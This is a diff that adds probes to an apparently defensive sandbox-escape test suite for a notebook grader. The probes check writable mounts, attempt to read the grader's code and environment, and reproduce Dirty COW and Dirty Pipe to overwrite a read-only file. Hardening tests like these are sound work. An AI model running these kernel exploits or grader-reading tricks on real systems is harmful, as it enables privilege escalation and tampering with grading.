@@ -119,6 +119,29 @@ for path in escaped:
     ),
     Attempt(
         "files",
+        "have more mounted writable than its scratch, or a set-user bit, device or program count there",
+        """
+own = {"/tmp": 14, "/dev/shm": 14, "/dev/pts": 10, "/proc": 14}  # where may be written, with the flags that have to be set there
+escaped = []
+for place in {line.split()[4].encode().decode("unicode_escape") for line in open("/proc/self/mountinfo")}:
+    if not os.path.exists(place):  # covered by another
+        continue
+    flags = os.statvfs(place).f_flag
+    needed = next((own[path] for path in own if (place + "/").startswith(path + "/")), 1)
+    if not flags & os.ST_RDONLY and flags & needed != needed or not place.startswith("/dev/") and not flags & os.ST_NOSUID:
+        escaped.append(place)""",
+    ),
+    Attempt(
+        "files",
+        "read the grader's own code",
+        """
+import nbjudge, sys
+places = [*nbjudge.__path__, *(path + "/nbjudge" for path in sys.path)]
+escaped = {name for place in places if os.path.isdir(place) for name in os.listdir(place)} - {"__init__.py", "__pycache__", "_student", "_wire"}""",
+    ),
+    Attempt("files", "find the grading process's environment in its own", """escaped = os.environ.get(about["variable"])"""),
+    Attempt(
+        "files",
         "change the rights, owner or time of what all kernels see",
         """
 import sys
@@ -141,6 +164,43 @@ escaped = done(os.mkdir, about["box"] + "/more") or call("mount", b"none", about
         "see the folders of other kernels",
         """
 escaped = [name for name in os.listdir(os.path.dirname(about["box"])) if name != os.path.basename(about["box"])]""",
+    ),
+    Attempt(
+        "files",
+        "change a file that may only be read, by what Linux once got wrong (Dirty COW, Dirty Pipe)",
+        """
+import mmap, threading, time
+with open("readable", "wb") as file:
+    file.write(b"as it was" * 1000)
+os.chmod("readable", 0o400)
+file = os.open("readable", os.O_RDONLY)
+reads, writes = os.pipe()
+for _ in range(16):  # as many parts as a pipe has, each of which remembers that it could be added to
+    os.write(writes, bytes(4096))
+os.read(reads, 16 * 4096)
+os.splice(file, writes, 1, offset_src=0)
+os.write(writes, b"DIRTY")
+libc.mmap.restype = ctypes.c_void_p
+place = libc.mmap(None, ctypes.c_size_t(4096), 1, mmap.MAP_PRIVATE, file, ctypes.c_long(0))
+end = time.monotonic() + 0.3
+def forget():
+    while time.monotonic() < end:
+        libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(4096), 4)
+forgets = threading.Thread(target=forget)
+forgets.start()
+try:
+    with open("/proc/self/mem", "r+b", buffering=0) as memory:
+        while time.monotonic() < end:
+            memory.seek(place)
+            memory.write(b"DIRTY")
+except OSError:
+    pass
+forgets.join()
+with open("readable", "rb") as again:
+    escaped = b"DIRTY" in again.read()
+for number in (file, reads, writes):
+    os.close(number)
+os.unlink("readable")""",
     ),
     Attempt(
         "files",
